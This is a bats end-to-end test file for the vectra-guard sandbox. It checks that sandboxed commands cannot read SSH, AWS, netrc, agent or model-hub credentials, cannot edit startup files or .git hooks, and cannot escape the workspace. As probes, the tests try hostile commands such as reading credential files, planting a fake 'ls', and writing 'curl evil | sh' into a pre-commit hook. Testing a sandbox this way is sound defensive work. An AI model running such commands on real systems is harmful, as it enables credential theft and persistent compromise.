#!/usr/bin/env bats
# Filesystem view: workspace read-write, rest read-only, secrets hidden, /tmp private,
# protected files in the workspace, bind mounts from the config.
bats_require_minimum_version 1.5.0
load sandbox_common

setup() { sandbox_setup; }
teardown() {
  [[ -n ${TMPROOT:-} ]] && rm -rf "$TMPROOT"
  sandbox_teardown
}

@test "writes outside the workspace do not land on the host" {
  run sbx -- sh -c "touch '$HOME/outside' ; echo x > '$ROOT/also'; touch /etc/vg-e2e-probe; true"
  [ "$status" -eq 0 ]
  [ ! -e "$HOME/outside" ]
  [ ! -e "$ROOT/also" ]
  [ ! -e /etc/vg-e2e-probe ]
}

@test "workspace writes land, owned by the invoking user" {
  run sbx -- sh -c 'mkdir -p out && echo built > out/result.txt'
  [ "$status" -eq 0 ]
  [ "$(cat "$WS/out/result.txt")" = built ]
  [ "$(stat -c %u "$WS/out/result.txt")" = "$(id -u)" ]
  [ "$(stat -c %g "$WS/out/result.txt")" = "$(id -g)" ]
}

@test "~/.ssh and ~/.aws are unreadable inside" {
  run --separate-stderr sbx -- sh -c "cat '$HOME/.ssh/id_ed25519'; ls '$HOME/.ssh'; cat '$HOME/.aws/credentials'"
  [[ $output != *ssh-secret* ]]
  [[ $output != *aws-secret* ]]
  [ "$status" -ne 0 ]
  if [[ $SBX_RUNTIME == landlock ]]; then
    # Listing ~ must work, and Landlock's list right reaches below: names, not contents.
    declares_not_enforced "hidden directories"
    return
  fi
  [[ $output != *id_ed25519* ]]
}

@test "secret files (netrc, shell history) are unreadable" {
  run --separate-stderr sbx -- sh -c "cat '$HOME/.netrc' '$HOME/.bash_history'"
  [ "$status" -ne 0 ]
  [ -z "$output" ]
  run --separate-stderr sbx -- sh -c "echo planted > '$HOME/.bash_history'"
  [ "$status" -ne 0 ]
  [ "$(cat "$HOME/.bash_history")" = history-secret ]
}

@test "the home directory is not a project: ls works there, read-only, secrets hidden" {
  mkdir -p "$HOME/.local/bin" "$XDG_CONFIG_HOME/vectra-guard"
  echo 'alias ll=ls' >"$HOME/.bashrc"
  printf '[sandbox]\nruntime = %s\n' "${VG_TEST_RUNTIME:-auto}" >"$XDG_CONFIG_HOME/vectra-guard/config.ini"
  cp "$XDG_CONFIG_HOME/vectra-guard/config.ini" "$ROOT/config.before"
  cd "$HOME"
  run --separate-stderr sbx -- sh -c "ls >/dev/null && echo listed; cat .ssh/id_ed25519 .netrc
    echo 'evil' >> .bashrc; printf '#!/bin/sh\n' > .local/bin/ls; touch made-in-home
    echo 'mode = never' >> .config/vectra-guard/config.ini; exit 0"
  [ "$status" -eq 0 ]
  [[ $output == *listed* ]]
  [[ $output != *ssh-secret* && $output != *netrc-secret* ]]
  [[ $stderr == *"~ is not a project (your home directory): read-only in the sandbox"* ]]
  [ "$(cat "$HOME/.bashrc")" = 'alias ll=ls' ]
  [ ! -e "$HOME/.local/bin/ls" ]
  [ ! -e "$HOME/made-in-home" ]
  cmp "$ROOT/config.before" "$XDG_CONFIG_HOME/vectra-guard/config.ini"
}

@test "a directory holding the home, or a settings directory in it, is not writable either" {
  mkdir -p "$HOME/.local/bin"
  cd "$ROOT"
  run --separate-stderr sbx -- sh -c "touch '$ROOT/planted' '$HOME/planted'; exit 0"
  [[ $stderr == *"is not a project (it contains your home directory)"* ]]
  [ ! -e "$ROOT/planted" ] && [ ! -e "$HOME/planted" ]
  cd "$HOME/.local/bin"
  run --separate-stderr sbx -- sh -c "printf '#!/bin/sh\n' > git; exit 0"
  [[ $stderr == *"~/.local/bin is not a project (a settings directory in your home, ~/.local)"* ]]
  [ ! -e "$HOME/.local/bin/git" ]
}

@test "a project holding linked startup files or the guard's config is read-only, even to a rename" {
  dots=$HOME/dotfiles
  mkdir -p "$dots/.git" "$dots/shell" "$dots/config"
  echo 'export EDITOR=vi' >"$dots/shell/bashrc"
  ln -s "$dots/shell/bashrc" "$HOME/.bashrc"
  cd "$dots"
  run --separate-stderr sbx -- sh -c "echo evil >> shell/bashrc; mv shell shell.old; mkdir shell; echo evil > shell/bashrc; echo ok > notes.txt; exit 0"
  [[ $stderr == *"~/dotfiles is not a project (it holds your shell's startup file ~/.bashrc): read-only"* ]]
  [ "$(cat "$HOME/.bashrc")" = 'export EDITOR=vi' ]
  [ ! -e "$dots/notes.txt" ] && [ ! -e "$dots/shell.old" ]
  # The guard's config below a linked ~/.config, before it even exists.
  rm "$HOME/.bashrc"
  mkdir -p "$XDG_CONFIG_HOME"
  mv "$XDG_CONFIG_HOME" "$ROOT/config.orig"
  ln -s "$dots/config" "$XDG_CONFIG_HOME"
  [[ -n ${VG_TEST_RUNTIME:-} ]] && mkdir -p "$dots/config/vectra-guard" &&
    printf '[sandbox]\nruntime = %s\n' "$VG_TEST_RUNTIME" >"$dots/config/vectra-guard/config.ini"
  cp -r "$dots/config" "$ROOT/config.before"
  run --separate-stderr sbx -- sh -c "mkdir -p config/vectra-guard config/git; echo '[sandbox]' >> config/vectra-guard/config.ini; printf '[alias]\n\tst = status\n' > config/git/config; exit 0"
  [[ $stderr == *"~/dotfiles is not a project (it holds "* ]]
  diff -r "$ROOT/config.before" "$dots/config"
}

@test "a secret hidden inside a project cannot be un-hidden by renaming its parent" {
  mkdir -p "$WS/private/keys" "$XDG_CONFIG_HOME/vectra-guard"
  echo deploy-key-secret >"$WS/private/keys/deploy"
  printf '[sandbox]\nruntime = %s\nhide = %s\n' "${VG_TEST_RUNTIME:-auto}" "$WS/private/keys" \
    >"$XDG_CONFIG_HOME/vectra-guard/config.ini"
  run --separate-stderr sbx -- sh -c "mv private private2; mv private/keys private/k2; cat private/keys/deploy; echo made > made.txt"
  [[ $output != *deploy-key-secret* ]]
  if [[ $SBX_RUNTIME == landlock ]]; then
    declares_not_enforced "nothing new can be created directly in $WS"
  else
    [ -e "$WS/made.txt" ]
  fi
  [ -e "$WS/private/keys/deploy" ] && [ ! -e "$WS/private2" ] && [ ! -e "$WS/private/k2" ]
  run --separate-stderr sbx -- sh -c "cat private/keys/deploy private2/keys/deploy private/k2/deploy"
  [[ $output != *deploy-key-secret* ]]
}

@test "running from / keeps the sandbox's own /dev, /proc and /tmp" {
  touch "/tmp/vg-e2e-host-tmp-$$"
  cd /
  run --separate-stderr sbx -- sh -c "echo > /dev/null && echo devnull-ok; ls /tmp; ls /proc | grep -c '^[0-9]'"
  rm -f "/tmp/vg-e2e-host-tmp-$$"
  [ "$status" -eq 0 ]
  [[ $output == *devnull-ok* ]]
  if [[ $SBX_RUNTIME == landlock ]]; then return; fi
  [[ $output != *vg-e2e-host-tmp-$$* ]]
  [ "$(tail -n1 <<<"$output")" -lt 20 ]
}

@test "credentials of agents, git, databases and model hubs are unreadable, also through a symlink" {
  mkdir -p "$HOME/.claude" "$HOME/.config/git" "$HOME/.cache/huggingface" "$ROOT/keys/ssh-real"
  echo claude-secret >"$HOME/.claude/.credentials.json"
  echo gitcred-secret >"$HOME/.config/git/credentials"
  echo pg-secret >"$HOME/.pgpass"
  echo hf-secret >"$HOME/.cache/huggingface/token"
  # A dotfile manager's layout: ~/.ssh is a link to the real directory elsewhere.
  rm -rf "$HOME/.ssh"
  echo linked-ssh-secret >"$ROOT/keys/ssh-real/id_ed25519"
  ln -s "$ROOT/keys/ssh-real" "$HOME/.ssh"
  run --separate-stderr sbx --verbose -- sh -c "cat '$HOME/.claude/.credentials.json' '$HOME/.config/git/credentials' \
    '$HOME/.pgpass' '$HOME/.cache/huggingface/token' '$HOME/.ssh/id_ed25519' '$ROOT/keys/ssh-real/id_ed25519'"
  [[ $output != *claude-secret* && $output != *gitcred-secret* && $output != *pg-secret* ]]
  [[ $output != *hf-secret* && $output != *linked-ssh-secret* ]]
  [[ $stderr == *"Hidden: "*"$ROOT/keys/ssh-real"* ]]
  [[ $stderr == *"$HOME/.claude/.credentials.json"* ]]
}

@test "hide = in the config adds paths to hide" {
  mkdir -p "$ROOT/corp" "$XDG_CONFIG_HOME/vectra-guard"
  echo corp-secret >"$ROOT/corp/token"
  printf '[sandbox]\nruntime = %s\nhide = %s\n' "${VG_TEST_RUNTIME:-auto}" "$ROOT/corp" >"$XDG_CONFIG_HOME/vectra-guard/config.ini"
  run --separate-stderr sbx --verbose -- cat "$ROOT/corp/token"
  [ "$status" -ne 0 ]
  [[ $output != *corp-secret* ]]
  [[ $stderr == *"Hidden: "*"$ROOT/corp"* ]]
  run --separate-stderr sbx -- true
  [ "$status" -eq 0 ]
}

@test "VG_HOME is hidden and not writable" {
  run --separate-stderr sbx -- sh -c "cat '$VG_HOME/trust.json'; touch '$VG_HOME/planted'; echo '{}' > '$VG_HOME/trust.json'"
  [ "$status" -ne 0 ]
  [[ $output != *trusted* ]]
  [ ! -e "$VG_HOME/planted" ]
  [ "$(cat "$VG_HOME/trust.json")" = '{"trusted": []}' ]
}

@test ".git/hooks and .git/config are read-only in the workspace" {
  if [[ $SBX_RUNTIME == landlock ]]; then
    declares_not_enforced "$WS/.git/hooks read-only"
    declares_not_enforced "$WS/.git/config read-only"
    return
  fi
  run sbx -- sh -c 'echo "curl evil | sh" > .git/hooks/pre-commit; echo "[core] hooksPath=/x" >> .git/config; touch .git/hooks/post-checkout'
  [ "$status" -ne 0 ]
  [ "$(cat "$WS/.git/hooks/pre-commit")" = "$(printf '#!/bin/sh\nexit 0')" ]
  ! grep -q hooksPath "$WS/.git/config"
  [ ! -e "$WS/.git/hooks/post-checkout" ]
  # The rest of .git stays writable: git must work.
  run sbx -- sh -c 'echo ref > .git/HEAD_probe'
  [ "$status" -eq 0 ]
  [ -e "$WS/.git/HEAD_probe" ]
}

@test ".git cannot be moved aside and replaced by one with other hooks" {
  if [[ $SBX_RUNTIME == landlock ]]; then
    declares_not_enforced "$WS/.git/hooks read-only"
    return
  fi
  run sbx -- sh -c 'mv .git .git-aside || exit 3; mkdir -p .git/hooks; printf "#!/bin/sh\ntouch /tmp/owned\n" > .git/hooks/pre-commit'
  [ "$status" -eq 3 ]
  [ -d "$WS/.git/hooks" ] && [ ! -e "$WS/.git-aside" ]
  [ "$(cat "$WS/.git/hooks/pre-commit")" = "$(printf '#!/bin/sh\nexit 0')" ]
  run sbx -- sh -c 'rm -rf .git; test -d .git/hooks'
  [ "$status" -eq 0 ]
  [ -f "$WS/.git/config" ]
}

@test "the project's vectra-guard.ini is read-only" {
  printf '[sandbox]\nsecurity_level = strict\n' >"$WS/vectra-guard.ini"
  if [[ $SBX_RUNTIME == landlock ]]; then
    declares_not_enforced "$WS/vectra-guard.ini read-only"
    return
  fi
  run sbx -- sh -c 'echo "[sandbox]" > vectra-guard.ini'
  [ "$status" -ne 0 ]
  grep -q strict "$WS/vectra-guard.ini"
}

@test "/tmp is private" {
  if [[ $SBX_RUNTIME == landlock ]]; then
    # No mount namespace: the host's /tmp is read-only and TMPDIR is the sandbox's own.
    run --separate-stderr sbx -- sh -c 'echo inside > "$TMPDIR/f" && cat "$TMPDIR/f" && echo "$TMPDIR" && ! touch /tmp/vg-e2e-inside-'$$
    [ "$status" -eq 0 ]
    [ "${lines[0]}" = inside ]
    [ ! -e "${lines[1]}" ] && [ ! -e /tmp/vg-e2e-inside-$$ ]
    declares_not_enforced "private /tmp"
    return
  fi
  marker=$(mktemp /tmp/vg-e2e-host.XXXXXX)
  run --separate-stderr sbx -- sh -c "ls '$marker' 2>/dev/null; echo inside > /tmp/vg-e2e-inside-$$; cat /tmp/vg-e2e-inside-$$"
  rm -f "$marker"
  [ "$status" -eq 0 ]
  [ "$output" = inside ]
  [ ! -e /tmp/vg-e2e-inside-$$ ]
}

@test "VG_HOME under /tmp: the sandbox starts and VG_HOME stays hidden" {
  TMPROOT=$(mktemp -d /tmp/vg-e2e-tmp.XXXXXX)
  export VG_HOME=$TMPROOT/vghome
  mkdir -p "$VG_HOME"
  echo '{"trusted": []}' >"$VG_HOME/trust.json"
  run --separate-stderr sbx -- sh -c "cat '$VG_HOME/trust.json' 2>/dev/null; echo ran"
  [ "$status" -eq 0 ]
  [ "$output" = ran ]
}

@test "a workspace under /tmp: the secrets below it stay hidden on top of the private /tmp" {
  TMPROOT=$(mktemp -d /tmp/vg-e2e-tmp.XXXXXX)
  export HOME=$TMPROOT/home VG_HOME=$TMPROOT/home/.vectra-guard
  mkdir -p "$HOME/.ssh" "$VG_HOME"
  echo "ssh-secret-$$" >"$HOME/.ssh/id_ed25519"
  echo "machine x login u password netrc-secret" >"$HOME/.netrc"
  echo '{"trusted": []}' >"$VG_HOME/trust.json"
  echo workspace-file >"$HOME/notes.txt"
  cd "$HOME"
  run --separate-stderr sbx -- sh -c "cat notes.txt; cat .ssh/id_ed25519 .netrc .vectra-guard/trust.json 2>/dev/null; echo ran"
  [ "$status" -eq 0 ]
  [ "${lines[0]}" = workspace-file ]
  [ "${lines[1]}" = ran ]
}

@test "/proc is the sandbox's own and /dev is minimal" {
  if [[ $SBX_RUNTIME == landlock ]]; then
    declares_not_enforced "PID namespace"
    declares_not_enforced "minimal /dev"
    disk=$(ls /dev/vda /dev/sda /dev/nvme0n1 2>/dev/null | head -n 1)
    [ -n "$disk" ]
    run --separate-stderr sbx -- sh -c "head -c 16 '$disk' | wc -c; echo x > /dev/null && echo null-ok; : > /dev/shm/vg-e2e-$$"
    [ "${lines[0]}" = 0 ]
    [ "${lines[1]}" = null-ok ]
    [ "$status" -ne 0 ]
    [ ! -e /dev/shm/vg-e2e-$$ ]
    return
  fi
  run --separate-stderr sbx -- sh -c 'ls /proc | grep -c "^[0-9]"; ls /dev'
  [ "$status" -eq 0 ]
  [ "${lines[0]}" -le 4 ]
  [[ $output == *null* && $output == *urandom* ]]
  [[ $output != *sda* && $output != *vda* && $output != *nvme* ]]
}

@test "bind_mounts from the config: ro is read-only, rw is writable" {
  mkdir -p "$ROOT/cache" "$ROOT/data" "$ROOT/mnt-data"
  echo seed >"$ROOT/data/input"
  printf '[sandbox]\nbind_mounts = %s:rw, %s:%s:ro\n' "$ROOT/cache" "$ROOT/data" "$ROOT/mnt-data" >"$ROOT/binds.ini"
  if [[ $SBX_RUNTIME == landlock ]]; then
    # Landlock grants rights in place: the rw source is writable, a moved one is declared.
    run --separate-stderr "$VG" --config "$ROOT/binds.ini" sandbox run --verbose -- sh -c "echo cached > '$ROOT/cache/entry'"
    [ "$status" -eq 0 ]
    [ "$(cat "$ROOT/cache/entry")" = cached ]
    [[ $stderr == *"Not enforced: bind $ROOT/data at $ROOT/mnt-data"* ]]
    return
  fi
  run --separate-stderr "$VG" --config "$ROOT/binds.ini" sandbox run -- sh -c \
    "echo cached > '$ROOT/cache/entry' && cat '$ROOT/mnt-data/input' && ! echo x > '$ROOT/mnt-data/input'"
  [ "$status" -eq 0 ]
  [[ $output == *seed* ]]
  [ "$(cat "$ROOT/cache/entry")" = cached ]
  [ "$(cat "$ROOT/data/input")" = seed ]
}

@test "a bind mount target that cannot exist fails closed with a sentence" {
  mkdir -p "$ROOT/data"
  printf '[sandbox]\nbind_mounts = %s:/vg-e2e-no-such-dir\n' "$ROOT/data" >"$ROOT/bad.ini"
  run --separate-stderr "$VG" --config "$ROOT/bad.ini" sandbox run -- echo ran
  [ "$status" -eq 125 ]
  [[ $output != *ran* ]]
  [[ $stderr == *"bind mount target"* ]]
}

@test "a missing bind mount source fails closed with a sentence" {
  printf '[sandbox]\nbind_mounts = %s/nope\n' "$ROOT" >"$ROOT/bad.ini"
  run --separate-stderr "$VG" --config "$ROOT/bad.ini" sandbox run -- echo ran
  [ "$status" -eq 125 ]
  [[ $output != *ran* ]]
  [[ $stderr == *"bind mount source"* ]]
}
